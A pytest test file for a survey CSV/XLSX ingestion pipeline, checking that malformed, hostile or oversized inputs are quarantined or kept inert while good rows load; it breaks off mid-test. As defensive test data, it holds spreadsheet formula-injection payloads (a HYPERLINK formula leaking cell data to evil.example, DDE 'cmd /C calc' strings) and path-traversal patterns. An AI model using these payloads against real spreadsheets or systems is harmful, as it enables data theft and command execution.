"""A catalogue of bad inputs: each gives a clear error or quarantine record, and loses nothing else.

Every test runs on a world whose feed already holds a loaded baseline file, lands its bad
input next to a good companion file, refreshes, and then checks two things: what happened to
the bad input (status, and the file / row / column / value / reason a person acts on), and
that nothing else was lost (the companion loaded, the baseline rows are untouched, the
refresh finished).

Decisions the tests pin down:
- A file DuckDB cannot parse (truncated last line, unbalanced quote, bytes in the wrong
  encoding) is quarantined whole, with the line and the hint; its good rows wait in
  quarantine/ with the file, rather than loading around a line whose extent is unknown.
- A header-only file is a valid empty export: loaded, 0 rows, and the manifest says so.
- Timestamps more than `max_future_days` (default 1) after the load are quarantined per row.
- Duplicate keys inside one file: raw keeps every row as landed (it is the audit copy);
  the manifest reason and `FileOutcome.duplicate_key_rows` report them; staging's
  `cx_latest_version` keeps the last occurrence. Across files, raw keeps both with lineage.
- A path resolving outside landing/<feed>/ (a symbolic link) is refused unread.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import jinja2
import pytest

from ingestion.load import FileOutcome, IngestReport, ingest_landing
from ingestion.paths import REPO_ROOT
from ingestion.registry import Feed, RegistryError, load_registry
from ingestion.warehouse import connect

FEED = "feedback"
FEEDBACK_YAML = f"""\
name: {FEED}
family: survey
entity: survey_responses
columns:
  response_ref: ResponseId
  submitted_at: RecordedDate
  nps_score: NPS
  comment: Comment
  language: Lang
scales:
  nps_score: {{min: 0, max: 10}}
"""
HEADER = "ResponseId,RecordedDate,NPS,Comment,Lang\n"
BASELINE_CSV = HEADER + "B1,2024-04-01 09:00:00,9,first,en\nB2,2024-04-02 09:00:00,3,second,fr\n"
COMPANION_CSV = HEADER + "G1,2024-05-01 10:00:00,10,good,en\n"
ROW_COLUMNS = "response_ref, submitted_at, nps_score, comment, language, _source_file, _row_number"


class World:
    """A data home whose feed already holds a loaded baseline file."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.sources = root / "sources"
        self.sources.mkdir(parents=True)
        self.con = connect(self.home / "warehouse.duckdb")
        self.declare()
        self.land("0_baseline.csv", BASELINE_CSV)
        assert [o.status for o in self.ingest().files] == ["loaded"]
        self.baseline = self.raw_rows("0_baseline.csv")

    def declare(self, extra: str = "", name: str = FEED, text: str = FEEDBACK_YAML) -> None:
        (self.sources / f"{name}.yml").write_text(text + extra, encoding="utf-8")

    def land(self, file_name: str, content: str | bytes, feed: str = FEED) -> Path:
        path = self.home / "landing" / feed / file_name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
        return path

    def feeds(self) -> list[Feed]:
        return load_registry(self.sources)

    def ingest(self) -> IngestReport:
        return ingest_landing(self.con, self.home, self.feeds())

    def ingest_with_companion(self) -> IngestReport:
        """Refresh with a good file landed beside the bad input."""
        self.land("z_good.csv", COMPANION_CSV)
        return self.ingest()

    def rows(self, sql: str, parameters: list[object] | None = None) -> list[tuple[Any, ...]]:
        return self.con.execute(sql, parameters).fetchall()

    def raw_rows(self, file_name: str) -> list[tuple[Any, ...]]:
        return self.rows(
            f"select {ROW_COLUMNS} from raw.survey_responses where _source_file = ? "
            "order by _row_number",
            [f"{FEED}/{file_name}"],
        )

    def quarantine(self, file_name: str) -> list[tuple[Any, ...]]:
        """(row, column, value, reason) of every problem recorded for one file."""
        return self.rows(
            "select row_number, column_name, raw_value, reason from ops.quarantine "
            "where source_file = ? order by row_number nulls first, column_name",
            [f"{FEED}/{file_name}"],
        )

    def assert_nothing_else_lost(self, report: IngestReport) -> None:
        outcome = outcome_of(report, "z_good.csv")
        assert (outcome.status, outcome.rows_loaded) == ("loaded", 1), outcome
        assert self.raw_rows("z_good.csv") == [
            ("G1", datetime(2024, 5, 1, 10), 10, "good", "en", f"{FEED}/z_good.csv", 1)
        ]
        assert self.raw_rows("0_baseline.csv") == self.baseline
        assert self.rows("select status from ops.run_log order by started_at desc limit 1") == [
            ("succeeded",)
        ]


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    world = World(tmp_path)
    yield world
    world.con.close()


def outcome_of(report: IngestReport, file_name: str) -> FileOutcome:
    matches = [outcome for outcome in report.files if outcome.file == file_name]
    assert len(matches) == 1, [outcome.file for outcome in report.files]
    return matches[0]


def assert_file_quarantined(world: World, report: IngestReport, file_name: str) -> str:
    """The whole file is quarantined: one file-level record, a copy and its reason beside it."""
    outcome = outcome_of(report, file_name)
    assert outcome.status == "quarantined"
    assert outcome.reason
    assert world.quarantine(file_name) == [(None, None, None, outcome.reason)]
    assert world.raw_rows(file_name) == []
    assert world.rows(
        "select status, reason from ops.file_manifest where source_file = ?",
        [f"{FEED}/{file_name}"],
    ) == [("quarantined", outcome.reason)]
    copy = world.home / "quarantine" / FEED / file_name
    assert copy.read_bytes() == (world.home / "landing" / FEED / file_name).read_bytes()
    reason_file = copy.with_name(copy.name + ".reason.txt").read_text(encoding="utf-8")
    assert outcome.reason in reason_file
    return outcome.reason


def utc_text(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S")


# --- empty and structurally broken files -------------------------------------------------


def test_empty_file_is_quarantined(world: World) -> None:
    world.land("empty.csv", b"")

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "empty.csv")
    assert reason == "the file is empty: no header row"
    world.assert_nothing_else_lost(report)


def test_header_only_file_loads_nothing_and_says_so(world: World) -> None:
    world.land("header_only.csv", HEADER)

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "header_only.csv")
    assert (outcome.status, outcome.rows_read, outcome.rows_loaded) == ("loaded", 0, 0)
    assert "no data rows" in str(outcome.reason)
    assert world.rows(
        "select rows_read, status, reason from ops.file_manifest where file_name = ?",
        ["header_only.csv"],
    ) == [(0, "loaded", outcome.reason)]
    assert world.quarantine("header_only.csv") == []
    world.assert_nothing_else_lost(report)


def test_semicolon_file_declared_as_comma_names_the_delimiter_to_declare(world: World) -> None:
    world.land("semicolon.csv", HEADER.replace(",", ";") + "S1;2024-05-01 10:00:00;8;ok;en\n")

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "semicolon.csv")
    assert "missing required column(s) 'ResponseId' (for response_ref)" in reason
    assert "columns found: 'ResponseId;RecordedDate;NPS;Comment;Lang'" in reason
    assert "declare csv: {delimiter: ';'}" in reason
    world.assert_nothing_else_lost(report)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_utf8_byte_order_mark_is_not_part_of_the_first_column(world: World, encoding: str) -> None:
    world.declare(f"encoding: {encoding}\n")
    world.land("bom.csv", b"\xef\xbb\xbf" + (HEADER + "M1,2024-05-01 10:00:00,7,ok,en\n").encode())

    report = world.ingest_with_companion()

    assert outcome_of(report, "bom.csv").status == "loaded"
    assert outcome_of(report, "bom.csv").reason is None  # no '\ufeffResponseId' drift
    assert world.raw_rows("bom.csv") == [
        ("M1", datetime(2024, 5, 1, 10), 7, "ok", "en", f"{FEED}/bom.csv", 1)
    ]
    world.assert_nothing_else_lost(report)


def test_gbk_bytes_in_a_utf8_feed_quarantine_the_file_with_the_line(world: World) -> None:
    world.declare("encoding: utf-8\n")
    content = HEADER + "C1,2024-05-01 10:00:00,9,fine,zh\nC2,2024-05-01 11:00:00,2,很慢,zh\n"
    world.land("gbk.csv", content.encode("gbk"))

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "gbk.csv")
    assert "Line: 3" in reason
    assert "not utf-8 encoded" in reason
    assert "declare the feed's encoding" in reason
    world.assert_nothing_else_lost(report)

    # Declared correctly, the same bytes load with the Chinese comment intact.
    world.declare("encoding: gb18030\n")
    world.land("gbk_declared.csv", content.encode("gbk") + b"\n")
    assert outcome_of(world.ingest(), "gbk_declared.csv").status == "loaded"
    assert [row[3] for row in world.raw_rows("gbk_declared.csv")] == ["fine", "很慢"]


def test_truncated_last_line_quarantines_the_file_with_the_line(world: World) -> None:
    world.land("truncated.csv", HEADER + "T1,2024-05-01 10:00:00,9,ok,en\nT2,2024-05-01 11:0")

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "truncated.csv")
    assert "Line: 3" in reason
    assert "Original Line: T2,2024-05-01 11:0" in reason
    assert "Expected Number of Columns: 5 Found: 2" in reason
    assert "truncated export" in reason
    world.assert_nothing_else_lost(report)


def test_unbalanced_quote_quarantines_the_file_with_the_line(world: World) -> None:
    world.land(
        "quote.csv",
        HEADER + 'Q1,2024-05-01 10:00:00,9,"she said "fine" then,en\n'
        "Q2,2024-05-01 11:00:00,8,ok,en\n",
    )

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "quote.csv")
    assert "Line: 2" in reason
    assert "unterminated quote" in reason
    assert "never closed" in reason
    world.assert_nothing_else_lost(report)


def test_bare_carriage_return_inside_a_quoted_field_is_kept(world: World) -> None:
    world.land(
        "cr.csv",
        HEADER + 'R1,2024-05-01 10:00:00,9,"first line\rsecond line",en\n'
        "R2,2024-05-01 11:00:00,8,ok,en\n",
    )

    report = world.ingest_with_companion()

    assert (outcome_of(report, "cr.csv").status, outcome_of(report, "cr.csv").rows_loaded) == (
        "loaded",
        2,
    )
    assert [(row[0], row[3], row[6]) for row in world.raw_rows("cr.csv")] == [
        ("R1", "first line\rsecond line", 1),
        ("R2", "ok", 2),
    ]
    world.assert_nothing_else_lost(report)


def test_bare_carriage_return_inside_an_unquoted_field_is_kept(world: World) -> None:
    # exports written without quoting (the Twitter support sample) carry "\r" in text
    world.land(
        "cr_unquoted.csv",
        HEADER + "R1,2024-05-01 10:00:00,9,first line\r\rsecond line,en\n"
        "R2,2024-05-01 11:00:00,8,ok,en\n",
    )

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "cr_unquoted.csv")
    assert (outcome.status, outcome.rows_loaded) == ("loaded", 2)
    assert [(row[0], row[3], row[6]) for row in world.raw_rows("cr_unquoted.csv")] == [
        ("R1", "first line\r\rsecond line", 1),
        ("R2", "ok", 2),
    ]
    world.assert_nothing_else_lost(report)


# --- schema drift --------------------------------------------------------------------------


def test_missing_required_column_quarantines_the_file(world: World) -> None:
    world.land("no_date.csv", "ResponseId,NPS,Comment\nD1,9,ok\n")

    report = world.ingest_with_companion()

    reason = assert_file_quarantined(world, report, "no_date.csv")
    assert reason == (
        "missing required column(s) 'RecordedDate' (for submitted_at); "
        "columns found: 'ResponseId', 'NPS', 'Comment'"
    )
    world.assert_nothing_else_lost(report)


def test_missing_optional_column_loads_as_null_and_is_noted(world: World) -> None:
    world.land("no_lang.csv", "ResponseId,RecordedDate,NPS,Comment\nO1,2024-05-01 10:00:00,6,x\n")

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "no_lang.csv")
    assert outcome.status == "loaded"
    assert outcome.reason == "optional column(s) not in the file, loaded as NULL: 'Lang'"
    assert world.raw_rows("no_lang.csv") == [
        ("O1", datetime(2024, 5, 1, 10), 6, "x", None, f"{FEED}/no_lang.csv", 1)
    ]
    world.assert_nothing_else_lost(report)


def test_extra_unknown_columns_are_kept_in_extra_and_reported(world: World) -> None:
    world.land(
        "extra.csv",
        "ResponseId,RecordedDate,NPS,Comment,Lang,Store,Agent Name\n"
        "E1,2024-05-01 10:00:00,9,ok,en,Lyon 2,Ana\n",
    )

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "extra.csv")
    assert outcome.status == "loaded"
    assert outcome.reason == "unmapped column(s) kept in _extra: 'Store', 'Agent Name'"
    assert world.rows(
        "select _extra ->> 'Store', _extra ->> 'Agent Name' from raw.survey_responses "
        "where response_ref = 'E1'"
    ) == [("Lyon 2", "Ana")]
    assert world.rows("select reason from ops.file_manifest where file_name = 'extra.csv'") == [
        (outcome.reason,)
    ]
    world.assert_nothing_else_lost(report)


# --- bad values: the row is quarantined, the rest of the file loads ---------------------------


def test_nps_outside_zero_to_ten_quarantines_the_row(world: World) -> None:
    world.land(
        "nps.csv",
        HEADER + "N1,2024-05-01 10:00:00,11,too high,en\n"
        "N2,2024-05-01 10:00:00,-1,too low,en\n"
        "N3,2024-05-01 10:00:00,10,top,en\n"
        "N4,2024-05-01 10:00:00,0,bottom,en\n",
    )

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "nps.csv")
    assert (outcome.status, outcome.rows_read, outcome.rows_loaded, outcome.rows_quarantined) == (
        "partially_loaded",
        4,
        2,
        2,
    )
    assert world.quarantine("nps.csv") == [
        (1, "NPS", "11", "expected integer 0..10, got '11'"),
        (2, "NPS", "-1", "expected integer 0..10, got '-1'"),
    ]
    assert [(row[0], row[2]) for row in world.raw_rows("nps.csv")] == [("N3", 10), ("N4", 0)]
    world.assert_nothing_else_lost(report)


def test_unparseable_dates_quarantine_the_row_with_the_text(world: World) -> None:
    world.land(
        "dates.csv",
        HEADER + "U1,31/12/2024,5,x,en\n"
        "U2,2024-02-30 10:00:00,5,x,en\n"
        "U3,yesterday,5,x,en\n"
        "U4,2024-05-01 10:00:00,5,x,en\n",
    )

    report = world.ingest_with_companion()

    assert outcome_of(report, "dates.csv").status == "partially_loaded"
    assert world.quarantine("dates.csv") == [
        (1, "RecordedDate", "31/12/2024", "expected timestamp, got '31/12/2024'"),
        (2, "RecordedDate", "2024-02-30 10:00:00", "expected timestamp, got '2024-02-30 10:00:00'"),
        (3, "RecordedDate", "yesterday", "expected timestamp, got 'yesterday'"),
    ]
    assert [row[0] for row in world.raw_rows("dates.csv")] == ["U4"]
    world.assert_nothing_else_lost(report)


def test_future_dates_beyond_max_future_days_quarantine_the_row(world: World) -> None:
    now = datetime.now(UTC).replace(tzinfo=None)
    soon, later = utc_text(now + timedelta(hours=12)), utc_text(now + timedelta(days=3))
    content = (
        HEADER + f"F1,{soon},5,clock skew,en\nF2,{later},5,typo,en\nF3,2999-01-01 00:00:00,5,x,en\n"
    )
    world.land("future.csv", content)

    report = world.ingest_with_companion()

    assert outcome_of(report, "future.csv").rows_quarantined == 2
    limit = "timestamp more than 1 day(s) after the load time (max_future_days: 1)"
    assert world.quarantine("future.csv") == [
        (2, "RecordedDate", later, f"{limit}, got '{later}'"),
        (3, "RecordedDate", "2999-01-01 00:00:00", f"{limit}, got '2999-01-01 00:00:00'"),
    ]
    assert [row[0] for row in world.raw_rows("future.csv")] == ["F1"]
    world.assert_nothing_else_lost(report)

    # The limit is declared per feed: a week lets the 3-day row through; null lifts it.
    world.declare("max_future_days: 7\n")
    world.land("future_week.csv", content + "\n")
    assert outcome_of(world.ingest(), "future_week.csv").rows_loaded == 2
    world.declare("max_future_days: null\n")
    world.land("future_any.csv", content + "\n\n")
    assert outcome_of(world.ingest(), "future_any.csv").rows_loaded == 3


@pytest.mark.parametrize("value", ["-1", "1.5", "soon", "true"])
def test_max_future_days_must_be_a_whole_number_of_days(world: World, value: str) -> None:
    world.declare(f"max_future_days: {value}\n")

    with pytest.raises(RegistryError, match="max_future_days: expected a whole number of days"):
        world.feeds()


def test_duplicate_keys_inside_a_file_are_kept_in_raw_and_reported(world: World) -> None:
    world.land(
        "dupes.csv",
        HEADER + "K1,2024-05-01 10:00:00,3,first answer,en\n"
        "K2,2024-05-01 10:00:00,8,x,en\n"
        "K1,2024-05-02 10:00:00,9,corrected answer,en\n"
        "K1,2024-05-03 10:00:00,10,corrected again,en\n",
    )

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "dupes.csv")
    assert (outcome.status, outcome.rows_loaded, outcome.duplicate_key_rows) == ("loaded", 4, 2)
    assert outcome.reason == (
        "2 row(s) repeat the response_ref of an earlier row ('K1' in 3 rows); "
        "raw keeps every row, staging keeps the last occurrence"
    )
    assert world.rows("select reason from ops.file_manifest where file_name = 'dupes.csv'") == [
        (outcome.reason,)
    ]
    assert [(row[0], row[6]) for row in world.raw_rows("dupes.csv")] == [
        ("K1", 1),
        ("K2", 2),
        ("K1", 3),
        ("K1", 4),
    ]
    assert latest_versions(world) == {
        "B1": ("0_baseline.csv", 1),
        "B2": ("0_baseline.csv", 2),
        "G1": ("z_good.csv", 1),
        "K1": ("dupes.csv", 4),
        "K2": ("dupes.csv", 2),
    }
    world.assert_nothing_else_lost(report)


def test_duplicate_keys_across_files_are_kept_in_raw_with_lineage(world: World) -> None:
    world.land("a_first.csv", HEADER + "X1,2024-05-01 10:00:00,3,before,en\n")
    world.ingest()
    world.land("b_second.csv", HEADER + "X1,2024-05-02 10:00:00,9,after,en\n")

    report = world.ingest_with_companion()

    assert outcome_of(report, "b_second.csv").duplicate_key_rows == 0  # per file only
    shas = dict(world.rows("select file_name, file_sha256 from ops.file_manifest"))
    assert world.rows(
        "select comment, _source_file, _file_sha256, _row_number from raw.survey_responses "
        "where response_ref = 'X1' order by _loaded_at"
    ) == [
        ("before", f"{FEED}/a_first.csv", shas["a_first.csv"], 1),
        ("after", f"{FEED}/b_second.csv", shas["b_second.csv"], 1),
    ]
    assert latest_versions(world)["X1"] == ("b_second.csv", 1)
    world.assert_nothing_else_lost(report)


@pytest.mark.parametrize("build", ["full", "incremental"])
def test_latest_version_by_a_two_column_key_with_nulls(build: str) -> None:
    """`cx_latest_version` on a raw table keyed by two columns, one of them missing on some
    rows: one row per feed and key (a missing value is a key of its own, as in a window's
    partition), the latest load winning, then the later row of one file. An incremental
    build sees only the rows landed since its last build."""
    macros = (REPO_ROOT / "dbt_project" / "macros" / "staging.sql").read_text(encoding="utf-8")
    rendered = (
        jinja2.Environment()
        .from_string(macros + "{{ cx_latest_version('ratings', ['response_ref', 'attribute']) }}")
        .render(
            is_incremental=lambda: build == "incremental",
            cx_incremental_since=lambda: "timestamp '2024-05-02 00:00:00'",
        )
    )
    with duckdb.connect() as con:
        con.execute(
            "create table ratings (_feed text, response_ref text, attribute text, rating int, "
            "_loaded_at timestamp, _file_sha256 text, _row_number int)"
        )
        con.execute(
            "insert into ratings values "
            "('f', 'R1', 'speed', 1, '2024-05-01', 'a', 1), "
            "('f', 'R1', 'speed', 2, '2024-05-03', 'c', 1), "  # a later load wins
            "('f', 'R1', 'price', 3, '2024-05-01', 'a', 2), "  # another attribute: kept
            "('g', 'R1', 'speed', 4, '2024-05-01', 'b', 1), "  # another feed: kept
            "('f', 'R2', null, 5, '2024-05-02', 'd', 1), "
            "('f', 'R2', null, 6, '2024-05-02', 'd', 2), "  # the later row of one file wins
            "('f', null, null, 7, '2024-05-01', 'a', 3), "
            "('f', null, null, 8, '2024-05-03', 'c', 2)"
        )
        kept = sorted(con.execute(f"select _feed, rating from ({rendered})").fetchall())

    if build == "full":
        assert kept == [("f", 2), ("f", 3), ("f", 6), ("f", 8), ("g", 4)]
    else:
        assert kept == [("f", 2), ("f", 6), ("f", 8)]


def latest_versions(world: World) -> dict[str, tuple[str, int]]:
    """What staging keeps, by running dbt's own `cx_latest_version` macro on raw (as a full
    build reads it: every row, not only those landed since the last build)."""
    macros = (REPO_ROOT / "dbt_project" / "macros" / "staging.sql").read_text(encoding="utf-8")
    sql = jinja2.Environment().from_string(
        macros + "{{ cx_latest_version('raw.survey_responses', ['response_ref']) }}"
    )
    full_build = sql.render(is_incremental=lambda: False)
    rows = world.rows(f"select response_ref, _source_file, _row_number from ({full_build})")
    return {ref: (source.split("/", 1)[1], row) for ref, source, row in rows}


# --- re-deliveries ---------------------------------------------------------------------------


def test_same_file_under_another_name_is_skipped_and_reported(world: World) -> None:
    copy = world.land("0_baseline (1).csv", BASELINE_CSV)

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "0_baseline (1).csv")
    assert outcome.status == "duplicate_content"
    assert outcome.sha256 == hashlib.sha256(copy.read_bytes()).hexdigest()
    assert f"same content as {FEED}/0_baseline.csv" in str(outcome.reason)
    assert "not loaded again" in str(outcome.reason)
    assert world.raw_rows("0_baseline (1).csv") == []
    assert world.rows("select count(*) from raw.survey_responses")[0][0] == 3
    world.assert_nothing_else_lost(report)


def test_corrected_redelivery_replaces_the_earlier_rows(world: World) -> None:
    world.declare("on_redelivery: replace\n")
    world.land(
        "weekly.csv", HEADER + "W1,2024-05-01 10:00:00,9,ok,en\nW2,2024-05-01 11:00:00,11,x,en\n"
    )
    first = outcome_of(world.ingest(), "weekly.csv")
    assert (first.status, first.rows_quarantined) == ("partially_loaded", 1)
    world.land(
        "weekly.csv", HEADER + "W1,2024-05-01 10:00:00,9,ok,en\nW2,2024-05-01 11:00:00,1,x,en\n"
    )

    report = world.ingest_with_companion()

    second = outcome_of(report, "weekly.csv")
    assert second.status == "loaded"
    assert f"replaced earlier delivery {first.sha256[:12]}" in str(second.reason)
    assert [(row[0], row[2]) for row in world.raw_rows("weekly.csv")] == [("W1", 9), ("W2", 1)]
    assert world.rows(
        "select file_sha256, status from ops.file_manifest where file_name = 'weekly.csv' "
        "order by loaded_at"
    ) == [(first.sha256, "replaced"), (second.sha256, "loaded")]
    # The first delivery's quarantined row stays on record, marked as superseded.
    assert world.rows(
        "select file_status, reason, rows from ops.quarantine_summary where file = ?",
        [f"{FEED}/weekly.csv"],
    ) == [("replaced", "expected integer 0..10", 1)]
    world.assert_nothing_else_lost(report)


# --- spreadsheets ------------------------------------------------------------------------------


def test_xlsx_with_several_sheets_reads_the_declared_sheet(world: World) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    workbook = openpyxl.Workbook()
    cover = workbook.active
    cover.title = "Summary"
    cover.append(["Report", "Q2 feedback"])
    cover.append(["Generated", "2024-05-02"])
    responses = workbook.create_sheet("Responses")
    responses.append(["ResponseId", "RecordedDate", "NPS", "Comment"])
    responses.append(["X1", "2024-05-01 10:00:00", 9, "from the right sheet"])
    responses.append(["X2", "2024-05-01 11:00:00", 11, "out of scale"])
    notes = workbook.create_sheet("Notes")
    notes.append(["ResponseId", "RecordedDate", "NPS", "Comment"])
    notes.append(["WRONG", "2024-05-01 10:00:00", 1, "from the wrong sheet"])
    path = world.root / "book.xlsx"
    workbook.save(path)
    xlsx_feed = FEEDBACK_YAML.replace(f"name: {FEED}", "name: feedback_xlsx")
    world.declare("format: xlsx\nfile_pattern: '*.xlsx'\nsheet: Responses\n", "xlsx", xlsx_feed)
    try:
        world.feeds()
    except RegistryError as error:
        if "format" not in str(error) and "sheet" not in str(error):
            raise
        pytest.skip(f"format: xlsx is not supported yet: {error}")
    world.land("book.xlsx", path.read_bytes(), feed="feedback_xlsx")

    report = world.ingest_with_companion()

    outcome = outcome_of(report, "book.xlsx")
    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == (
        "partially_loaded",
        1,
        1,
    )
    assert world.rows(
        "select response_ref, nps_score, comment from raw.survey_responses "
        "where _feed = 'feedback_xlsx'"
    ) == [("X1", 9, "from the right sheet")]
    assert world.rows(
        "select row_number, column_name, raw_value from ops.quarantine where feed = 'feedback_xlsx'"
    ) == [(2, "NPS", "11")]
    world.assert_nothing_else_lost(report)


# --- hostile or huge text ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
]


def test_spreadsheet_formulas_in_a_comment_are_kept_as_inert_text(world: World) -> None:
    lines = [
        f'H{index},2024-05-01 10:00:00,5,"{formula.replace(chr(34), chr(34) * 2)}",en'
        for index, formula in enumerate(FORMULAS, start=1)
    ]
    world.land("formulas.csv", HEADER + "\n".join(lines) + "\nH9,2024-05-01 10:00:00,=1+1,x,en\n")

    report = world.ingest_with_companion()

    # Kept byte for byte, never evaluated; a formula in a score column is just a bad value.
    assert [row[3] for row in world.raw_rows("formulas.csv")] == FORMULAS
    assert world.quarantine("formulas.csv") == [
        (7, "NPS", "=1+1", "expected integer 0..10, got '=1+1'")
    ]
    assert outcome_of(report, "formulas.csv").rows_loaded == len(FORMULAS)
    world.assert_nothing_else_lost(report)


def test_fifty_thousand_character_comment_is_kept_whole(world: World) -> None:
    comment = ('Très long, "quoted" and multi-line\ncomment; ' * 1200)[:50_000]
    escaped = comment.replace('"', '""')
    world.land("long.csv", HEADER + f'L1,2024-05-01 10:00:00,2,"{escaped}",fr\n')

    report = world.ingest_with_companion()

    assert outcome_of(report, "long.csv").status == "loaded"
    assert world.rows("select comment from raw.survey_responses where response_ref = 'L1'") == [
        (comment,)
    ]
    assert len(comment) == 50_000
    world.assert_nothing_else_lost(report)


# --- file names and paths --------------------------------------------------------------------


@pytest.mark.parametrize(
    "file_name",
    ["export 2024 05 (final).csv", "réponses 问卷 №1.csv", "report..final.csv", "a .. b.csv"],
)
def test_awkward_file_names_load_under_their_own_name(world: World, file_name: str) -> None:
    world.land(file_name, HEADER + "A1,2024-05-01 10:00:00,9,ok,en\n")

    report = world.ingest_with_companion()

    assert outcome_of(report, file_name).status == "loaded"
    assert world.raw_rows(file_name) == [
        ("A1", datetime(2024, 5, 1, 10), 9, "ok", "en", f"{FEED}/{file_name}", 1)
    ]
    world.assert_nothing_else_lost(report)


def test_awkward_name_of_a_quarantined_file_stays_inside_quarantine(world: World) -> None:
    world.land("bad..name ü.csv", b"")

    report = world.ingest_with_companion()

    assert_file_quarantined(world, report, "bad..name ü.csv")
    assert sorted(path.name for path in (world.home / "quarantine").rglob("*")) == [
        "bad..name ü.csv",
        "bad..name ü.csv.reason.txt",
        FEED,
    ]
    world.assert_nothing_else_lost(report)


@pytest.mark.parametrize("pattern", ["../*.csv", "sub/../../*.csv", "/etc/*.csv", "..\\\\*.csv"])
def test_file_pattern_reaching_outside_the_landing_folder_is_rejected(
    world: World, pattern: str
) -> None:
    world.declare(f'file_pattern: "{pattern}"\n')

    with pytest.raises(RegistryError, match=r"file_pattern: .* reaches outside"):
        world.feeds()


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic links")
def test_symlink_pointing_outside_landing_is_refused_unread(world: World) -> None:
    secret = world.root / "elsewhere" / "secret.csv"
    secret.parent.mkdir()
    secret.write_text(HEADER + "S1,2024-05-01 10:00:00,9,private,en\n", encoding="utf-8")
    link = world.home / "landing" / FEED / "link.csv"
    link.symlink_to(secret)

    report = world.ingest_with_companion()
    world.ingest()  # a second refresh records the refusal once, not twice

    outcome = outcome_of(report, "link.csv")
    assert outcome.status == "refused"
    assert outcome.sha256 == ""  # never read, not even hashed
    assert f"outside landing/{FEED}/" in str(outcome.reason)
    assert str(secret.resolve()) in str(outcome.reason)
    assert world.quarantine("link.csv") == [(None, None, None, outcome.reason)]
    assert world.rows("select file_status, scope from ops.quarantine_summary") == [
        ("refused", "file")
    ]
    assert world.rows("select count(*) from ops.file_manifest where file_name = 'link.csv'") == [
        (0,)
    ]
    assert not (world.home / "quarantine").exists()  # no copy of the outside file
    assert world.rows("select count(*) from raw.survey_responses where response_ref = 'S1'") == [
        (0,)
    ]
    world.assert_nothing_else_lost(report)


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic links")
def test_symlink_inside_the_feed_folder_is_read(world: World) -> None:
    target = world.land("archive/may.csv", HEADER + "I1,2024-05-01 10:00:00,9,ok,en\n")
    (world.home / "landing" / FEED / "may_link.csv").symlink_to(target)

    report = world.ingest_with_companion()

    assert outcome_of(report, "may_link.csv").status == "loaded"
    assert [row[0] for row in world.raw_rows("may_link.csv")] == ["I1"]
    world.assert_nothing_else_lost(report)


# --- everything at once, and how ops shows it ---------------------------------------------------


def test_a_refresh_with_every_kind_of_bad_file_still_loads_the_good_rows(world: World) -> None:
    bad_files = {
        "empty.csv": "",
        "header_only.csv": HEADER,
        "semicolon.csv": HEADER.replace(",", ";") + "S1;2024-05-01 10:00:00;8;ok;en\n",
        "truncated.csv": HEADER + "T1,2024-05-01 10:00:00,9,ok,en\nT2,2024-05",
        "quote.csv": HEADER + 'Q1,2024-05-01 10:00:00,9,"open,en\n',
        "no_date.csv": "ResponseId,NPS\nD1,9\n",
        "scores.csv": HEADER + "N1,2024-05-01 10:00:00,11,x,en\nN2,2024-05-01 10:00:00,7,ok,en\n",
    }
    for file_name, content in bad_files.items():
        world.land(file_name, content)
    world.land("gbk.csv", (HEADER + "C1,2024-05-01 10:00:00,9,很好,zh\n").encode("gbk"))

    report = world.ingest_with_companion()

    statuses = {outcome.file: outcome.status for outcome in report.files}
    assert statuses == {
        "0_baseline.csv": "already_loaded",
        "empty.csv": "quarantined",
        "gbk.csv": "quarantined",
        "header_only.csv": "loaded",
        "no_date.csv": "quarantined",
        "quote.csv": "quarantined",
        "scores.csv": "partially_loaded",
        "semicolon.csv": "quarantined",
        "truncated.csv": "quarantined",
        "z_good.csv": "loaded",
    }
    assert [row[0] for row in world.raw_rows("scores.csv")] == ["N2"]
    assert world.rows("select count(*) from raw.survey_responses")[0][0] == 4  # B1 B2 G1 N2
    world.assert_nothing_else_lost(report)
    summary = world.rows(
        "select file, file_status, scope, column_name, reason, rows, first_row, example_value "
        "from ops.quarantine_summary order by file"
    )
    assert [row[:4] for row in summary] == [
        (f"{FEED}/empty.csv", "quarantined", "file", None),
        (f"{FEED}/gbk.csv", "quarantined", "file", None),
        (f"{FEED}/no_date.csv", "quarantined", "file", None),
        (f"{FEED}/quote.csv", "quarantined", "file", None),
        (f"{FEED}/scores.csv", "partially_loaded", "row", "NPS"),
        (f"{FEED}/semicolon.csv", "quarantined", "file", None),
        (f"{FEED}/truncated.csv", "quarantined", "file", None),
    ]
    assert summary[4][4:] == ("expected integer 0..10", 1, 1, "11")
    # Every file outcome with quarantined rows agrees with the manifest and the summary.
    for file_name, rows_quarantined in world.rows(
        "select source_file, rows_quarantined from ops.file_manifest where rows_quarantined > 0"
    ):
        assert world.rows(
            "select sum(rows) from ops.quarantine_summary where file = ?", [file_name]
        ) == [(rows_quarantined,)]


def test_quarantine_summary_counts_rows_once_per_reason(world: World) -> None:
    world.land(
        "many.csv",
